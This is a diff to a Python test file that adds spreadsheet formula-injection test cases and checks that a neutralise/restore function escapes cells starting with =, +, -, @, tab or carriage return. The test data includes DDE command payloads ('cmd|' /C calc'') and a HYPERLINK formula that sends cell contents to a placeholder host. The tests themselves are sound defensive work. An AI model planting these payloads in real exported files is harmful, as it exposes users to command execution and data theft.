@@ -26,7 +26,8 @@ from .conftest import TODAY, make_submission
 from .test_cli import jisr
 
 FORMULAS = ['=HYPERLINK("http://x.example/?d="&A2,"clic")', "=cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "+33 ou -2", "-2+3", "\t=1+1", "\r=1+1"]
+            "@SUM(1+1)*cmd|' /C calc'!A0", "+33 ou -2", "-2+3+cmd|' /C calc'!A0",
+            "\t=SUM(A1:A9)", "\r=HYPERLINK(\"x\")"]
 
 
 def _system_temp_leftovers() -> set[str]:
@@ -156,3 +157,11 @@ def test_cli_import_of_nasty_json_gets_clear_messages(tmp_path):
     stats = json.loads(jisr(folder, "stats").stdout)
     assert stats["total"] == 1
     assert import_export.FileProblem  # the module exposes the file-level error
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
+def test_every_owasp_formula_start_is_neutralised_and_restored(text):
+    from jisr_desktop.models.workflows.file_io import neutralise, restore
+
+    assert neutralise(text) == "'" + text and restore(neutralise(text)) == text
+    assert neutralise(-1) == -1 and neutralise("Fatima") == "Fatima"
